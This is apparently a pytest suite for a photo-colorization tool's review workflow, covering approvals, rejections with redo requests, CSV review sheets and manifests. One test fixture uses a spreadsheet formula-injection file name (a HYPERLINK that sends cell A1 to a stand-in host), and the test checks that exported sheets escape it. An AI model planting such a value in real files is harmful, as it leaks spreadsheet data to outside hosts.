"""Review: list, approve, reject with a redo request, `run --redo-rejected`, and bad requests
that change nothing."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil

import pytest
from sqlalchemy import func, select

from colorize_core.errors import ReviewError
from colorize_core.provenance import Event, Item, ProvenanceStore
from colorize_core.review import parse_redo, read_sheet, rejected, write_sheet
from tests.conftest import SAMPLES, bad_inputs
from tests.test_cli import colorize

pytestmark = pytest.mark.slow


def test_redo_parameters_are_checked():
    assert parse_redo(["refine=none", "work-size=320", "temporal=false", "strength=0.5"]) == {
        "refine": "none", "work_size": 320, "temporal": False, "strength": 0.5}
    for bad, text in (("refine=sparkly", "expected one of"), ("colour=red", "unknown parameter"),
                      ("refine", "key=value"), ("work_size=100", "multiple of 32"), ("strength=2", "from 0"),
                      ("model=nope", "unknown model")):
        with pytest.raises(ReviewError, match=text):
            parse_redo([bad])


def test_a_review_sheet_is_read_whole_or_refused_naming_its_wrong_rows():
    head = "item,path,new_decision,note,redo\n"
    assert read_sheet(("\ufeff" + head + "7,a.tif,Approve,,\n8,b.tif,,,\n9,c.tif,REJECT,too red,refine=none;"
                       "work_size=320\n").encode()) == [(7, "approved", "", {}),
                                                        (9, "rejected", "too red", {"refine": "none", "work_size": 320})]
    for text, message in ((head + "7,a.tif,approve,,refine=none\n", "row 2: a redo goes with a rejection"),
                          (head + "x,a.tif,approve,,\n7,b.tif,approve,,\n7,c.tif,reject,no,\n",
                           "row 2: item 'x' is not an item id; row 4: item 7 is on row 3 too"),
                          (head + "7,a.tif,reject,bad,colour=red\n", "row 2: --redo 'colour=red': unknown parameter"),
                          (head + "7,a.tif,,,\n", "asks for no decision"),
                          ("path,decision\na.tif,approved\n", "no item or new_decision column")):
        with pytest.raises(ReviewError, match=re.escape(message)):
            read_sheet(text.encode())
    with pytest.raises(ReviewError, match="not UTF-8"):
        read_sheet((head + "7,caf\xe9.tif,approve,,\n").encode("latin-1"))
    # A donor's file name is shown as text, never run as a formula; the sheet still reads back.
    items = [{"id": 7, "rel_path": '=HYPERLINK("http://x/?"&A1,"a").jpg', "status": "done", "attention": [],
              "decision": None, "review": []},
             {"id": 8, "rel_path": "-1 scan.tif", "status": "done", "attention": ["low-colourfulness"],
              "decision": "approved", "review": [{"by": "@ann"}]},
             {"id": 9, "rel_path": "1-2.tif", "status": "done", "attention": [], "decision": None, "review": []}]
    rows = list(csv.reader(io.StringIO("".join(write_sheet(items)))))
    assert [(r[1], r[5]) for r in rows[1:]] == [("'=HYPERLINK(\"http://x/?\"&A1,\"a\").jpg", ""),
                                                ("'-1 scan.tif", "'@ann"), ("1-2.tif", "")]
    rows[1][6] = "approve"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    assert read_sheet(out.getvalue().encode()) == [(7, "approved", "", {})]
    # Saved where the comma is the decimal mark (semicolons), or as Excel's "Unicode Text" (UTF-16, tabs).
    want = [(7, "rejected", "too red, see the sky", {"refine": "none", "work_size": 320}), (8, "approved", "", {})]
    for delimiter, encoding in ((";", "utf-8-sig"), ("\t", "utf-16")):
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(
            [["item", "path", "new_decision", "note", "redo"],
             [7, "a;b.tif", "reject", "too red, see the sky", "refine=none;work_size=320"], [8, "c,d.tif", "approve"]])
        assert read_sheet(out.getvalue().encode(encoding)) == want, delimiter


def test_review_decisions_and_redo_of_rejected_items(prefect_api, tmp_path):
    src, dest, db = tmp_path / "src", tmp_path / "dest", f"sqlite:///{tmp_path}/p.db"
    shutil.copytree(SAMPLES / "animals", src)
    (src / "broken.jpg").write_bytes(bad_inputs()["truncated.jpg"])
    env = {"PREFECT_API_URL": prefect_api}
    r = colorize("run", str(src), str(dest), "--db", db, "--json", env=env)
    job = json.loads(r.stdout[r.stdout.index("{"):])["job_id"]

    r = colorize("review", "list", job, "--db", db, "--json")
    assert r.returncode == 0, r.stderr
    items = {it["rel_path"]: it for it in json.loads(r.stdout)}
    cat, sepia, broken = items["chelsea cat.png"]["id"], items["chelsea-sepia.jpg"]["id"], items["broken.jpg"]["id"]
    assert items["broken.jpg"]["attention"] == ["failed"]

    store = ProvenanceStore(db)

    def reviews() -> int:
        with store.session() as s:
            return s.scalar(select(func.count()).select_from(Event).where(Event.type == "review"))

    # Bad requests: clear messages, exit 2, nothing recorded.
    for args, text in ((["approve", "999999", "--by", "Ann"], "no item 999999"),
                       (["approve", str(broken), "--by", "Ann"], "no colour rendition"),
                       (["reject", str(cat), "--by", "Ann", "--note", "x", "--redo", "refine=sparkly"], "expected one of"),
                       (["reject", str(cat), "--by", "Ann", "--note", "x", "--redo", "colour=red"], "unknown parameter"),
                       (["list", "no-such-job"], "no job")):
        r = colorize("review", *args, "--db", db)
        assert r.returncode == 2 and text in r.stderr, (args, r.stderr)
    assert reviews() == 0
    r = colorize("run", "--redo-rejected", job, "--db", db, env=env)
    assert r.returncode == 2 and "no rejected items" in r.stderr

    r = colorize("review", "approve", str(cat), "--by", "Ann Archivist", "--note", "good fur", "--db", db)
    assert r.returncode == 0, r.stderr
    r = colorize("review", "reject", str(sepia), "--by", "Ann Archivist", "--note", "blotchy",
                 "--redo", "refine=none", "--db", db)
    assert r.returncode == 0 and "--redo-rejected" in r.stdout, r.stderr
    manifest = json.loads((dest / "manifest.json").read_text())
    by_rel = {it["rel_path"]: it for it in manifest["items"]}
    assert by_rel["chelsea cat.png"]["decision"] == "approved"
    assert by_rel["chelsea-sepia.jpg"]["review"][0] | {"at": None} == {
        "by": "Ann Archivist", "decision": "rejected", "note": "blotchy", "redo": {"refine": "none"},
        "requested_in_job": job, "at": None}
    assert "rejected" in by_rel["chelsea-sepia.jpg"]["attention"]
    assert "blotchy" in (dest / "manifest.html").read_text()
    old_output = dest / "chelsea-sepia.jpg"
    old_bytes = old_output.read_bytes()

    r = colorize("run", "--redo-rejected", job, "--db", db, "--json", env=env)
    assert r.returncode == 0, r.stderr
    redo = json.loads(r.stdout[r.stdout.index("{"):])
    assert redo["counts"] == {"done": 1, "skipped": 0, "failed": 0}
    assert old_output.read_bytes() == old_bytes   # the rejected output stays, the new one is beside it
    with store.session() as s:
        new = s.scalars(select(Item).where(Item.job_id == redo["job_id"])).one()
        assert new.rel_path == "chelsea-sepia.jpg" and new.params["refine"] == "none"
        assert {e.type: e.detail["item_id"] for e in new.events if e.type == "redo"} == {"redo": sepia}
        old = s.get(Item, sepia)
        assert [e.detail["item_id"] for e in old.events if e.type == "superseded"] == [new.id]
        assert new.outputs[0].uri != str(old_output)
    items = {it["rel_path"]: it for it in json.loads((dest / "manifest.json").read_text())["items"]}
    assert items["chelsea-sepia.jpg"]["redo"]["supersedes"]["item_id"] == sepia
    r = colorize("run", "--redo-rejected", job, "--db", db, env=env)
    assert r.returncode == 2 and "no rejected items" in r.stderr   # redone once, not again
    # DEST's index is the latest job's: a decision on the first job's item leaves it so.
    r = colorize("review", "reject", str(cat), "--by", "Bo", "--note", "second look: too orange", "--db", db)
    assert r.returncode == 0, r.stderr
    index = json.loads((dest / "manifest.json").read_text())
    assert index["job"]["id"] == redo["job_id"] and "too orange" not in (dest / "manifest.html").read_text()
    first = {it["rel_path"]: it for it in json.loads((dest / "manifests" / job / "manifest.json").read_text())["items"]}
    assert first["chelsea cat.png"]["decision"] == "rejected" and first["chelsea cat.png"]["review"][-1]["by"] == "Bo"
    r = colorize("review", "approve", str(new.id), "--by", "Bo", "--db", db)     # the latest job's item
    assert r.returncode == 0, r.stderr
    index = json.loads((dest / "manifest.json").read_text())
    assert index["job"]["id"] == redo["job_id"] and index["items"][0]["decision"] == "approved"


def test_outputs_a_model_is_unsure_of_are_flagged_for_review_first(prefect_api, tmp_path):
    from tests.test_external import _random_model

    model = _random_model(tmp_path / "m", "zhang-classifier", "unsure")
    card = {"name": "unsure", "confidence_low": 0.9}  # a distribution never that peaked: all flagged
    model.with_suffix(".json").write_text(json.dumps(card))
    src, dest, db = tmp_path / "src", tmp_path / "dest", f"sqlite:///{tmp_path}/p.db"
    shutil.copytree(SAMPLES / "animals", src)
    r = colorize("run", str(src), str(dest), "--db", db, "--model", str(model), "--json",
                 env={"PREFECT_API_URL": prefect_api})
    assert r.returncode == 0, r.stderr
    job = json.loads(r.stdout[r.stdout.index("{"):])["job_id"]
    items = json.loads(colorize("review", "list", job, "--db", db, "--json").stdout)
    done = [it for it in items if it["status"] == "done"]
    assert done and all("low-confidence" in it["attention"] for it in done)
    manifest = json.loads((dest / "manifests" / job / "manifest.json").read_text())
    assert all("low-confidence" in it["attention"] for it in manifest["items"] if it["status"] == "done")
    store = ProvenanceStore(db)
    with store.session() as s:
        details = s.scalars(select(Event.detail).where(Event.type == "colorize")).all()
    assert details and all(0.0 < d["confidence"] < 0.9 for d in details)


def test_several_items_or_a_jobs_items_needing_no_attention_are_decided_at_once(prefect_api, tmp_path):
    from tests.conftest import colour_photo_bytes

    src, dest, db = tmp_path / "src", tmp_path / "dest", f"sqlite:///{tmp_path}/p.db"
    shutil.copytree(SAMPLES / "animals", src)
    (src / "broken.jpg").write_bytes(bad_inputs()["truncated.jpg"])
    (src / "in colour.jpg").write_bytes(colour_photo_bytes())
    r = colorize("run", str(src), str(dest), "--db", db, "--json",
                 env={"PREFECT_API_URL": prefect_api, "COLORIZE_MANIFEST_PAGE_ITEMS": "1"})
    job = json.loads(r.stdout[r.stdout.index("{"):])["job_id"]
    items = {it["rel_path"]: it for it in json.loads(colorize("review", "list", job, "--db", db, "--json").stdout)}
    cat, sepia, broken = items["chelsea cat.png"]["id"], items["chelsea-sepia.jpg"]["id"], items["broken.jpg"]["id"]
    assert items["in colour.jpg"]["attention"] == ["already-colour"] and items["in colour.jpg"]["colour"] is None
    # The contact sheet a page an item here: those that need attention first, then by path.
    pages = [dest / "manifests" / job / name for name in ("manifest.html", "manifest-2.html", "manifest-3.html",
                                                          "manifest-4.html")]
    assert [p.exists() for p in pages] == [True] * 4 and not (dest / "manifests" / job / "manifest-5.html").exists()
    for page, rel in zip(pages, ("broken.jpg", "in colour.jpg", "chelsea cat.png", "chelsea-sepia.jpg")):
        assert f"<strong>{rel}</strong>" in page.read_text() and page.read_text().count('class="item"') == 1
    assert 'Page 3 of 4' in pages[2].read_text() and 'href="manifest-2.html"' in pages[2].read_text()
    index = (dest / "manifest.html").read_text()
    assert "<strong>broken.jpg</strong>" in index and f'href="manifests/{job}/manifest-4.html"' in index
    store = ProvenanceStore(db)

    def reviews() -> list[tuple[int, str, dict]]:
        with store.session() as s:
            return [(e.item_id, e.agent, e.detail) for e in s.scalars(select(Event).where(Event.type == "review")
                                                                       .order_by(Event.id))]

    # All or none: one item that cannot take the decision stops them all, each named.
    for args, texts in ((["approve", str(cat), str(broken), "999999"], ["2 of the 3 items", "broken.jpg", "no item 999999"]),
                        (["approve"], ["name the items"]),
                        (["approve", str(cat), "--job", job], ["not both"]),
                        (["approve", "--job", "no-such-job"], ["no job no-such-job"]),
                        (["reject", str(cat), "--note", " "], ["needs a note"])):
        r = colorize("review", *args, "--by", "Ann", "--db", db)
        assert r.returncode == 2 and all(t in r.stderr for t in texts), (args, r.stderr)
    assert reviews() == []

    assert colorize("review", "approve", str(cat), "--by", "Ann", "--db", db).returncode == 0
    r = colorize("review", "approve", "--job", job, "--by", "Bo", "--note", "contact sheet seen", "--db", db)
    assert r.returncode == 0, r.stderr
    assert f"job {job}: 1 item(s) approved by Bo" in r.stdout and "1 item(s) already decided" in r.stdout
    assert "2 item(s) need attention" in r.stdout and "broken.jpg (failed)" in r.stdout
    assert "in colour.jpg (already-colour)" in r.stdout
    assert reviews()[1] == (sepia, "person:Bo", {"decision": "approved", "note": "contact sheet seen", "redo": {},
                                                 "requested_in_job": job, "with_job": job})
    assert not pages[1].exists() and pages[0].read_text().count('class="item"') == 4   # 500 a page, the default
    manifest = json.loads((dest / "manifests" / job / "manifest.json").read_text())
    assert {it["rel_path"]: it["decision"] for it in manifest["items"]} == {
        "chelsea cat.png": "approved", "chelsea-sepia.jpg": "approved", "broken.jpg": None, "in colour.jpg": None}
    assert f"with the items of job {job} that needed no attention" in (dest / "manifest.html").read_text()
    r = colorize("review", "approve", "--job", job, "--by", "Bo", "--db", db, "--json")
    left = json.loads(r.stdout)
    assert r.returncode == 0 and left["decisions"] == [] and left["left"]["decided"] == 2, r.stderr
    assert sorted(it["rel_path"] for it in left["left"]["attention"]) == ["broken.jpg", "in colour.jpg"]

    # Several rejected at once, each with the redo asked for; a redo job would run both.
    r = colorize("review", "reject", str(sepia), str(cat), "--by", "Cy", "--note", "too warm", "--redo", "refine=none",
                 "--db", db)
    assert r.returncode == 0 and r.stdout.count("rejected by Cy") == 2, r.stderr
    assert sorted((it.id, redo) for it, redo in rejected(store, job)) == sorted([(cat, {"refine": "none"}),
                                                                                (sepia, {"refine": "none"})])

    # From Prefect (the record-review flow, as its deployment runs it): the same decisions.
    from flows.review import record_review

    result = record_review(decision="approved", by="Di", items=[sepia], db_url=db)
    assert result["decided"] == 1 and reviews()[-1][:2] == (sepia, "person:Di")
    with pytest.raises(ReviewError, match="needs a note"):
        record_review(decision="rejected", by="Di", items=[cat], db_url=db)

    # A review sheet: written by `review list --csv`, filled in a spreadsheet, recorded whole or not at all.
    r = colorize("review", "list", job, "--csv", "--db", db)
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert r.returncode == 0 and [row["path"] for row in rows] == [
        "broken.jpg", "chelsea cat.png", "in colour.jpg", "chelsea-sepia.jpg"]   # attention first (cat: rejected)
    assert rows[0]["attention"] == "failed" and rows[3]["decision"] == "approved" and rows[3]["decided_by"] == "Di"
    by_path = {row["path"]: row for row in rows}
    by_path["chelsea cat.png"].update(new_decision="Approve", note="fine after all")
    by_path["chelsea-sepia.jpg"].update(new_decision="reject", note="blotchy sky", redo="refine=none; work_size=320")
    sheet = tmp_path / "sheet.csv"

    def write(bad: dict[str, dict[str, str]] | None = None) -> None:
        with open(sheet, "w", newline="", encoding="utf-8-sig") as fh:   # as a spreadsheet saves CSV UTF-8
            w = csv.DictWriter(fh, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows([{**row, **(bad or {}).get(row["path"], {})} for row in rows])

    write({"broken.jpg": {"new_decision": "approve"}, "in colour.jpg": {"new_decision": "maybe"},
           "chelsea cat.png": {"new_decision": "reject", "note": ""}})
    r = colorize("review", "apply", str(sheet), "--by", "Eve", "--db", db)
    assert r.returncode == 2 and "row 4: new_decision 'maybe'" in r.stderr and "row 3: a rejection needs a note" in r.stderr
    write({"broken.jpg": {"new_decision": "approve"}})
    r = colorize("review", "apply", str(sheet), "--by", "Eve", "--db", db)
    assert r.returncode == 2 and "broken.jpg" in r.stderr and "none was recorded" in r.stderr
    assert len(reviews()) == 5
    write()
    r = colorize("review", "apply", str(sheet), "--by", "Eve", "--db", db)
    assert r.returncode == 0, r.stderr
    assert "item %d (chelsea-sepia.jpg): rejected by Eve; redo with refine=none, work_size=320" % sepia in r.stdout
    assert reviews()[-2:] == [
        (cat, "person:Eve", {"decision": "approved", "note": "fine after all", "redo": {}, "requested_in_job": job}),
        (sepia, "person:Eve", {"decision": "rejected", "note": "blotchy sky", "redo": {"refine": "none", "work_size": 320},
                               "requested_in_job": job})]
    assert "blotchy sky" in (dest / "manifests" / job / "manifest.html").read_text()
    result = record_review(by="Fay", sheet=str(sheet), db_url=db)   # the same sheet, from Prefect
    assert result["decisions"] == {cat: "approved", sepia: "rejected"} and reviews()[-1][1] == "person:Fay"

    running = store.start_job(str(src), str(dest), {}, "k", "default", "m" * 64, {}, None)
    with pytest.raises(ReviewError, match="still running"):
        record_review(decision="approved", by="Di", job_id=running, db_url=db)
    assert len(reviews()) == 9
